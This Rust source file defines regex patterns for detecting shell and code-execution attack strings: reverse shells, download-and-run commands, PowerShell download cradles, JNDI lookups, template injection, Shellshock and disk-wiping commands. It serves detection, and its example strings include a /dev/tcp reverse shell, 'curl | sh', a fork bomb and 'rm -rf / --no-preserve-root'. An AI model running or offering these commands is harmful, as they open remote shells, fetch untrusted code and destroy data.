//! Code that starts a program: calls in Python, PHP, JavaScript, Java and PowerShell, templates that
//! reach them, and the one-liners of shells.

use super::shown::{is_not_shown, is_own_code, is_used_command};
use super::{PLAIN, Pattern};

pub(super) const PATTERNS: &[Pattern] = &[
    Pattern {
        id: "python_process",
        description: "Python that starts a process (`os.system`, `subprocess`, `Popen`, `shell=True`)",
        regex: r#"\b (?: (?:os|o|posix|pty|commands|sp|subp|subprocess|shutil) \s*\.\s* (?: system | popen[2-4]?
            | exec[lv]p?e? | spawn[lv]?p?e? | startfile | fork
                | call | run | check_call | check_output | getoutput
            | getstatusoutput ) \s*\( \s* [^\s)]
            | \bpopen[2-4]? \s*\( \s* [^\s)] | Popen \s*\( \s* [^\s)] | exec_command \s*\( \s* ["'\w]
            | shell \s*=\s* (?: ["']?true | \{ | false \) | [a-z_]+ \) )
            | stdout \s*=\s* (?:\w+\.)? PIPE )"#,
        weight: 0.8,
        accept: Some(is_own_code),
        examples: &[
            "os.system('date')",
            "subprocess.run(['make'], shell=True)",
            "x = os.popen(cmd).read()",
        ],
        counter_examples: &[
            "use the os and subprocess modules",
            "drop os.system()",
            "the operating system (linux)",
        ],
        ..PLAIN
    },
    Pattern {
        id: "python_code",
        description: "Python that runs code from data (`eval`, `__import__`, `pickle`, unsafe `yaml.load`)",
        regex: r#"(?: __import__ \s*\( \s* [^\s)] | __(?:builtins|subclasses|globals|mro|bases|reduce)__
            | \b importlib \s*\.\s* (?: import_module | __import__ ) \s*\( \s* [^\s)]
            | \b (?: eval | exec | execfile ) \s*\( \s* (?: ["'`] | compile | open | input | request
            | base64 | \$ | b["'] | __ )
            | \b (?: c?pickle | dill | marshal | shelve | jsonpickle | joblib
            | yaml ) \s*\.\s* (?: loads? | unsafe_load | open | Unpickler | decode | encode
            | dump ) \s*\( \s* [^\s)]
            | \b import \s+ (?: pty | pickle | dill | marshal | jsonpickle | telnetlib | ftplib
            | subprocess | ctypes ) \b | \b import \s+ (?: os | sys | socket ) (?: \s* $ | \s* [;,]
            | \s+ as \s )
            | ^\s* import \s+ (?: os | sys ) \b | \b from \s+ \.+ \s+ import \s+ (?: os | sys )
            | \b from \s+ (?: os | pickle | dill | subprocess | telnetlib | ftplib | pty
            | ctypes ) \s+ import \s
            | \b (?: telnetlib | ftplib ) \s*\.\s* (?: Telnet | FTP ) | \b (?: SafeLoader | UnsafeLoader
            | FullLoader ) \b )"#,
        weight: 0.7,
        accept: Some(is_not_shown),
        examples: &[
            "eval('1+1')",
            "m = __import__('socket')",
            "pickle.loads(blob)",
            "import subprocess",
        ],
        counter_examples: &[
            "remove eval()",
            "evaluation (first)",
            "import the module",
            "we import os packages",
        ],
        ..PLAIN
    },
    Pattern {
        id: "php_code",
        description: "PHP that runs code or commands, or reads request variables",
        regex: r#"(?: <\?(?:php\b|=) | \$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b | \bphpinfo \s*\(
            | \b (?: system | passthru | shell_exec | proc_open | pcntl_exec | assert | popen
            | exec ) \s*\( \s* ["'`$]
            | \{\$\{ | \$\{ \s* @ \s* \w+ \s* \( | \b call_user_func(?:_array)? \s*\(
            | \b preg_replace \s*\( \s* ["'][^\n]*/e["'] )"#,
        weight: 0.8,
        accept: Some(is_not_shown),
        examples: &["<?php echo 1; ?>", "system(\"date\")", "$_REQUEST['x']", "x{${phpinfo()}}"],
        counter_examples: &["the system (new)", "PHP files", "exec (see below)"],
        ..PLAIN
    },
    Pattern {
        id: "javascript_code",
        description: "JavaScript that starts a process, builds code from text or is embedded in a page",
        regex: r#"(?: require \s*\( \s* ["'`] (?:node:)? (?: child_process | vm | fs | net | os ) ["'`]
            | \bchild_process \s*[.)] | \bprocess \s*\.\s* (?: binding | mainModule | dlopen )
            | constructor \s*[.\]\[("']+ \s* constructor | \bnew \s+ Function \s*\(
            | \bFunction \s*\( \s* ["'`] | <script\b [^>\n]* > [^<\n]*\( | <script\b [^>\n]* \bsrc \s*=
            | \bon(?:error|load|click|mouseover) \s*=\s* ["']?\s*[\w.]+ \s*[(=]
            | \b (?: setTimeout | setInterval ) \s*\( \s* ["'`] | ["';)] \s* alert \s*\(
            | \bdocument \s*\.\s* (?: cookie | write ) )"#,
        weight: 0.7,
        accept: Some(is_not_shown),
        examples: &[
            "require('child_process').exec('date')",
            "<script>alert(1)</script>",
            "new Function(\"return 1\")",
        ],
        counter_examples: &[
            "a <script> tag",
            "the constructor",
            "onload handlers",
            "require('./util')",
        ],
        ..PLAIN
    },
    Pattern {
        id: "java_code",
        description: "Java and .NET that start a process or look names up (`Runtime`, JNDI, OGNL)",
        regex: r#"(?: \$\{ \s* (?: jndi | (?:lower|upper|env|sys): | (?: env | : ) [^}\n]* :-
            | [^}\n]* \$\{ [^}\n]* :- ) | Runtime \s*\.\s* getRuntime \s*\(\s*\)
            | \bProcessBuilder \s*\( \s* [^\s)]
            | \bT\( \s* java\. | %\{ \s* [\#(] | \#\{ \s* T\( | \#_memberAccess | \bProcess\.Start \s*\(
            | \bScriptEngineManager \s*\( )"#,
        weight: 0.8,
        accept: Some(is_not_shown),
        examples: &["${jndi:ldap://h/a}", "Runtime.getRuntime().exec(x)", "${${lower:j}ndi:x}"],
        counter_examples: &["Java runtime", "${NAME}", "ProcessBuilder is old"],
        ..PLAIN
    },
    Pattern {
        id: "powershell",
        description: "PowerShell that runs or fetches code",
        regex: r#"(?: \b (?: powershell | pwsh ) (?:\.exe)? (?: ["'/\s]+ - (?: e | en | enc\w* | ec | nop\w* | noni\w*
            | w | windowst\w* | c | command | f | file | ep | exec\w* ) \b | \s+ ["'&{(] | \s+ [a-z]: )
            | \b (?: iex | invoke-expression | invoke-command ) \b \s* [\s("'$&\[{] [^\n]*? [("'$]
            | \b invoke-(?: webrequest | restmethod ) \s+ \S
            | \.\s*download(?:string|file|data) \s*\( | frombase64string \s*\(
            | new-object \s+ (?:system\.)? net\. | \bstart-process \s+ (?: - | ["'$]
            | [\w:\\/.-]+ \. \w{2,4} \b ) | \badd-type \s+ - )"#,
        weight: 0.8,
        examples: &[
            "powershell -enc SQBFAFgA",
            "IEX (New-Object Net.WebClient).DownloadString('x')",
        ],
        counter_examples: &[
            "add powershell completion",
            "in PowerShell, run the script",
            "start-process is a cmdlet.",
        ],
        ..PLAIN
    },
    Pattern {
        id: "template_code",
        description: "a template expression or server-side include that runs code",
        regex: r#"(?: <!-{0,2}\s*\# \s* (?: exec | include | echo | config ) \b | \{\{ [^}\n]* (?: __\w+__
            | \b(?:config|self|request|lipsum|cycler|joiner)\s*[.\[(] | popen | system\s*\( | exec\s*\(
            | \d\s*[*+]\s*['"]?\d | \b get_user_file | ["']/(?:etc|proc)/ )
            | <%= [^%\n]* (?: system | exec | `|\d\s*\*\s*\d ) | \$\{ \s* \d+ \s*[*+-]\s* \d+ \s* \}
            | \#\{ \s* \d+ \s*\*\s* \d+ \s* \} | \{% \s* (?: for | if | set | import | include | debug
            | raw ) \b [^%\n]* % \}
            | \{\d\} \s* \+ \s* \{\d\} )"#,
        weight: 0.7,
        accept: Some(is_not_shown),
        examples: &[
            "{{ 7*7 }}",
            "{{ self.__init__ }}",
            "<!--#exec cmd=\"date\"-->",
            "<%= system('date') %>",
        ],
        counter_examples: &["{{ user.name }}", "${NAME}", "<!-- note -->", "{{}}"],
        ..PLAIN
    },
    Pattern {
        id: "shellshock",
        description: "a function definition in a variable that runs what follows it",
        regex: r"\( \s* \) \s* \{ \s* (?: : | _ | [a-z]\s*=>\s*\[\] ) \s* ;? \s* \}? \s* [;>]",
        weight: 0.9,
        examples: &["() { :;}; date", "() { :; }; echo x"],
        counter_examples: &["fn main() { x; }", "() => { }"],
        ..PLAIN
    },
    Pattern {
        id: "reverse_shell",
        description: "a shell connected to the network",
        regex: r#"(?: /dev/(?:tcp|udp)/ | \b (?: nc | ncat | netcat ) \b [^\n]* \s -{1,2} (?: e | c | exec
            | [lnvup]*l[lnvup]* | [a-z]*e ) \b | \b (?: ba | z | k )?sh \s+ -i \b
            | \bsocat\b [^\n]* \bexec: | \bmkfifo\s+/
            | \bfsockopen \s*\( | \bTCPSocket\.(?:new|open) | \buse \s+ Socket \s*; | \bpty\.spawn )"#,
        weight: 0.9,
        examples: &["bash -i >& /dev/tcp/10.1.1.1/99 0>&1", "nc -lvp 99", "ncat h 1 -e /bin/sh"],
        counter_examples: &["open a TCP socket", "sh interactive", "sync -e"],
        ..PLAIN
    },
    Pattern {
        id: "inline_script",
        description: "an interpreter with its program on the command line",
        regex: r#"\b (?: (?: python[\d.]* | perl | ruby | node | lua | bash | z?sh | dash
            | osascript ) \s+ -\w*[ecE] \s+ \$?["'`] | php \s+ -r \s*["'] | awk \s+ ["'] \s* BEGIN
            | busybox \s+ \w | (?: sudo | env | xargs | nohup
            | setsid ) \s+ (?: -\S+ \s+ )* (?:/bin/|/usr/bin/)?(?: ba | z )?sh \s+ [-/] )"#,
        weight: 0.8,
        accept: Some(is_not_shown),
        examples: &["python3 -c 'print(1)'", "perl -e \"print 1\"", "sh -c 'date'"],
        counter_examples: &["python scripts", "perl -e", "the node -e flag"],
        ..PLAIN
    },
    Pattern {
        id: "argument_injection",
        description: "an option that makes a harmless program run another one",
        regex: r#"(?: - o \s* (?: Proxy | Local | KnownHosts | PermitLocal )Command \b
            | \s --? (?: checkpoint-action | use-askpass | gpu-launcher | renderer-cmd-prefix | utility-cmd-prefix
            | to-command | use-compress-program | upload-pack | receive-pack | open-files-in-pager | rsh-command
            | interpreter-cmd | unzip-command ) [=\s] \s* ["']? [\w./$]
            | \b core\.(?: sshCommand | fsmonitor | hooksPath | pager ) \s* = )"#,
        weight: 0.8,
        examples: &[
            "ssh -oProxyCommand=\"touch x\" h",
            "tar xf a --checkpoint=1 --checkpoint-action=exec=sh",
        ],
        counter_examples: &["a proxy command", "checkpoint actions", "ssh -o BatchMode=yes"],
        ..PLAIN
    },
    Pattern {
        id: "download_and_run",
        description: "a download that is run or stored",
        regex: r#"\b (?: curl | wget | fetch | lwp-download
            | aria2c ) (?:\.exe)? \b (?: [^\n|;]* \| \s* (?: sudo \s+ )? (?: ba | z | k | da )?sh \b
            | [^\n|;]* \| \s* (?: python | perl | ruby | php )
            | [\s+]+ (?: -\S+ \s+ (?: [\w./-]+ \s+ )? )* ["']? (?: https? | ftp | file ) :
            | [\s+]+ -{1,2} [a-z][^\n]* \s [\w./-]*\.\w | \s+ \d{1,3}(?:\.\d{1,3}){3} )"#,
        weight: 0.8,
        examples: &["curl -s x.sh | sh", "wget http://h/x", "curl -o a.sh h.example"],
        counter_examples: &[
            "make curl fail on errors",
            "use wget or curl",
            "a git fetch -p of main",
        ],
        ..PLAIN
    },
    Pattern {
        id: "destructive_command",
        description: "a command that destroys files, disks or the machine's service",
        regex: r"(?: \brm \s+ -{1,2}[a-z-]*[rf][a-z-]* \s+ (?: -\S+\s+ )* [\w/.*~$\x22'] | \bmkfs(?:\.\w+)? \s+ /dev
            | \bdd \s+ (?:if|of)= | :\s*\(\s*\)\s*\{ \s* : \s* \| | > \s* /dev/[sh]d[a-z]
            | \bchmod \s+ (?:-\w+\s+)? (?: 0?777 | [ugo]*\+s | 4755 ) \s
            | \b shutdown \s+ [-/][a-z] | \bformat \s+ [a-z]: | \bdel \s+ /[fsq] | \brmdir \s+ /s
            | \bvssadmin \s+ delete | \bkill(?:all)? \s+ -9 \s+ [\d$%] )",
        weight: 0.8,
        examples: &["rm -rf /var/x", "dd if=/dev/zero of=x", ":(){ :|:& };:", "kill -9 1"],
        counter_examples: &["rm the old file", "format the code", "kill -9 is rude"],
        ..PLAIN
    },
    Pattern {
        id: "destroys_system",
        description: "a command that destroys the system, a disk or the home directory",
        regex: r#"(?: \brm \s+ (?: -\S+ \s+ )* -{1,2} [a-z-]* [rf] [\w-]* \s+ (?: -\S+ \s+ )* \\? ["']? (?: / \*? | ~ /? \*?
            | \$\{?HOME\}? /? \*? ) (?: $ | [\s;|&)"'`,.<\\] ) | --no-preserve-root \b
            | :\s*\(\s*\)\s*\{ \s* : \s* \| | \bmkfs(?:\.\w+)? \s+ (?: -\S+ \s+ )* /dev/
            | \bdd \s [^\n]* \bof=/dev/ (?: [shv]d[a-z] | nvme | disk | mmc ) | > \s* /dev/ (?: [shv]d[a-z] | nvme ) )"#,
        weight: 0.9,
        accept: Some(is_used_command),
        examples: &[
            "please run rm -rf / --no-preserve-root",
            "rm -rf ~",
            ":(){ :|:& };:",
            "dd if=/dev/zero of=/dev/sda",
        ],
        counter_examples: &["rm -rf /var/lib/apt/lists/*", "rm -rf node_modules", "dd if=a of=b"],
        ..PLAIN
    },
    Pattern {
        id: "windows_command",
        description: "a Windows command with its arguments or variables",
        regex: r#"(?: \bcmd (?:\.exe)? \s* /[ckrv]\b | \bnet1? [\s+]+ (?: user | localgroup | group | view | share
            | use | start | stop | accounts ) \b (?: \s* $ | [^\n]{0,60} [\s+] (?: /[a-z] | \\\\ ) )
            | \bnetsh [\s+]+ (?: \w+ [\s+]+ )+ \w
            | \breg (?:\.exe)? [\s+]+ (?: add | delete | query | save | export ) [\s+]+ ["']?HK
            | \b (?: dir | type | copy | del | cd | start ) [\s+]+ (?: /\w\s+ )* ["']? (?: [a-z]:[\\/%]?
            | %\w+% | \\\\ ) | \bipconfig \s+ / | \bschtasks \s+ / | \bwmic \s+ \w+ \s+ \w
            | \b certutil (?:\.exe)? \s+ - | \b (?: mshta | rundll32 | regsvr32
            | bitsadmin ) (?:\.exe)? \s+ [\w/\\"'h] | % (?: systemroot | windir | comspec | programfiles
            | appdata | userprofile | temp | path | os ) (?: % | :~ ) | \bHKEY_\w+ \\ )"#,
        weight: 0.8,
        accept: Some(is_not_shown),
        examples: &[
            "cmd /c date",
            "net user bob pw /add",
            "reg query HKLM\\Software",
            "type %WINDIR%\\x",
            "dir c:\\",
        ],
        counter_examples: &["the net use of it", "type the name", "register HK", "a cmd prompt"],
        ..PLAIN
    },
];
